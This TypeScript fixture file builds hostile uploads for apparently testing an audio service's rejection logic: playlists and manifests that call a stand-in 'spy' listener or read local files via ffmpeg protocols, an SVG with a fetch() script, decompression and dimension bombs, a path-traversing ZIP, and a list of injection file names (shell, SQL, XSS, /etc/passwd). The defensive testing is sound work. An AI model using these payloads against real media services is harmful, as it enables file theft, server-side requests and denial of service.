// Files as an attacker would upload them, by name. `spy` is the address of somebody who listens; `secret` a file that is nobody's sound.
import { deflateSync, gzipSync } from 'node:zlib';

const words = (text: string) => Buffer.from(text, 'utf8');
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** One box of ISO 14496-12 §4.2. */
const box = (type: string, ...inside: Uint8Array[]) => {
  const body = Buffer.concat(inside);
  return Buffer.concat([u32(body.length + 8), words(type), body]);
};

export const ftyp = box('ftyp', words('isom'), u32(512), words('isommp41'));

/** A PNG head of so many dots over next to nothing; the checksum of its data is wrong, as a bomb's need not be right. */
export function pngOf(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) =>
    Buffer.concat([u32(data.length), words(type), data, u32(crc(Buffer.concat([words(type), data])))]);
  const head = Buffer.concat([u32(width), u32(height), Buffer.from([8, 0, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(4 * 1024 * 1024), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const byte of bytes) {
    c ^= byte;
    for (let i = 0; i < 8; i++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}

const gifOf = (side: number) => {
  const bytes = Buffer.from('474946383961000000008000000000000000002c00000000000000000002024401003b', 'hex');
  for (const at of [6, 8, 23, 25]) bytes.writeUInt16LE(side, at);
  return bytes;
};
/** VP8L names at most 16,384 dots each way; VP8X 2^24. */
const webp = () => {
  const head = Buffer.alloc(10);
  head.writeUIntLE(49_999, 4, 3);
  head.writeUIntLE(49_999, 7, 3);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(10);
  return Buffer.concat([words('RIFF'), Buffer.from([0xff, 0xff, 0, 0]), words('WEBPVP8X'), size, head]);
};
const within = (types: readonly string[], inside: Buffer): Buffer => types.reduceRight((inner, type) => box(type, inner), inside);

const longWord = box('desc', box('data', u32(1), u32(0), Buffer.alloc(512 * 1024, 'A')));

/** Nothing of these is a sound: each is refused, whatever it calls itself. */
export function noSounds(spy: string, secret: string): Readonly<Record<string, Buffer>> {
  const playlist = (address: string) => words(`#EXTM3U\n#EXT-X-TARGETDURATION:6\n#EXTINF:6,\n${address}\n#EXT-X-ENDLIST\n`);
  return {
    'HLS of the network': playlist(`${spy}/hls.ts`),
    'HLS of a file': playlist(`file://${secret}`),
    'HLS of a key on the network': words(`#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${spy}/key"\n#EXTINF:6,\n${spy}/a.ts\n#EXT-X-ENDLIST\n`),
    'HLS of concat and subfile': playlist(`concat:${secret}|subfile,,start,0,end,9,,:${secret}`),
    'HLS of data': playlist(`data:audio/wav;base64,${Buffer.alloc(64).toString('base64')}`),
    'HLS after an MP3 head': Buffer.concat([words('ID3'), Buffer.from([3, 0, 0, 0, 0, 0, 10]), Buffer.alloc(10), playlist(`${spy}/mp3`)]),
    'concat script': words(`ffconcat version 1.0\nfile '${secret}'\nfile '${spy}/concat'\n`),
    'DASH manifest': words(
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${spy}/dash</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ),
    'SDP session': words(`v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=audio 5004 RTP/AVP 0\n`),
    'ASX playlist': words(`<asx version="3.0"><entry><ref href="${spy}/asx"/></entry></asx>`),
    'PLS playlist': words(`[playlist]\nFile1=${spy}/pls\nNumberOfEntries=1\nVersion=2\n`),
    'SVG with a script': words(
      `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${spy}/svg")</script><image href="${spy}/i"/></svg>`,
    ),
    'HTML after a JPEG head': Buffer.concat([Buffer.from('ffd8ffe000104a464946000101', 'hex'), words(`<script src="${spy}/js"></script>`)]),
    'PDF as sound': words(
      '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
    ),
    'SRT subtitles': words(`1\n00:00:00,000 --> 10:00:00,000\n<font face="${spy}/font">x</font>\n`),
    'ASS subtitles': words(
      `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../x.ttf\n[Events]\nDialogue: 0,0:00:00.00,9:00:00.00,,,,0,0,0,,x\n`,
    ),
    'ffmpeg metadata': words(';FFMETADATA1\ntitle=x\n'),
    'shell script': words('#!/bin/sh\ntouch /tmp/x\n'),
    'PNG of 50,000 dots each way': pngOf(50_000, 50_000),
    'GIF of 50,000 dots each way': gifOf(50_000),
    'WebP of 50,000 dots each way': webp(),
    'gzip of nothing': gzipSync(Buffer.alloc(32 * 1024 * 1024), { level: 9 }),
    'ZIP that names a climbing path': Buffer.concat([
      Buffer.from('504b0304140000000000000000000000000000000000000000001000000', 'hex'),
      words('../../etc/passwd'),
      Buffer.from('504b050600000000010001003e0000002e0000000000', 'hex'),
    ]),
    'MP4 of boxes in boxes': Buffer.concat([
      ftyp,
      within(
        Array.from({ length: 2_000 }, () => 'moov'),
        Buffer.alloc(0),
      ),
    ]),
    'MP4 whose box says four gigabytes': Buffer.concat([ftyp, u32(0xffffffff), words('moov'), Buffer.alloc(100)]),
    'MP4 whose sound lies on the network': Buffer.concat([
      ftyp,
      within(
        ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'],
        Buffer.concat([u32(0), u32(1), box('url ', u32(0), words(`${spy}/dref\0`))]),
      ),
    ]),
    'MP4 of absurd words': Buffer.concat([
      ftyp,
      within(['moov', 'udta', 'meta'], Buffer.concat([u32(0), box('ilst', ...Array.from({ length: 40 }, () => longWord))])),
    ]),
    'FLAC that ends after its head': Buffer.concat([
      words('fLaC'),
      Buffer.from('80000022100010000000000000000ac442f0ffffffff', 'hex'),
      Buffer.alloc(16),
    ]),
    'Ogg pages of nothing': Buffer.concat(Array.from({ length: 20_000 }, (_, at) => oggPage(at, 0))),
    'Ogg of twenty thousand streams': Buffer.concat(Array.from({ length: 20_000 }, (_, at) => oggPage(0, at, true))),
    'Matroska whose head nests': Buffer.concat([
      Buffer.from('1a45dfa3', 'hex'),
      Buffer.alloc(200_000, Buffer.from('1a45dfa301ffffffffffffff', 'hex')),
    ]),
  };
}

/** RFC 3533 §6; what its checksum says is left wrong. */
function oggPage(number: number, serial: number, begins = false): Buffer {
  const page = Buffer.alloc(28);
  page.write('OggS');
  page[5] = begins ? 2 : 0;
  page.writeUInt32LE(serial, 14);
  page.writeUInt32LE(number, 18);
  page[26] = 1;
  return page;
}

/** Names of files and titles as somebody would write them who wants more than a name. */
export const nastyNames: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  '/etc/shadow',
  'CON',
  'NUL.wav',
  'COM1.mp3',
  'bang\u202Egpj.exe',
  'n\u0301'.repeat(60),
  'concat:/etc/passwd|/etc/shadow',
  'file:///etc/passwd',
  'subfile,,start,0,end,9,,:/etc/passwd',
  '-i /etc/passwd',
  '| sh -c "touch /tmp/x"',
  '$(touch /tmp/x) `id`',
  "'; DROP TABLE media; --",
  '<img src=x onerror=alert(1)>',
  '%n%s%d',
];
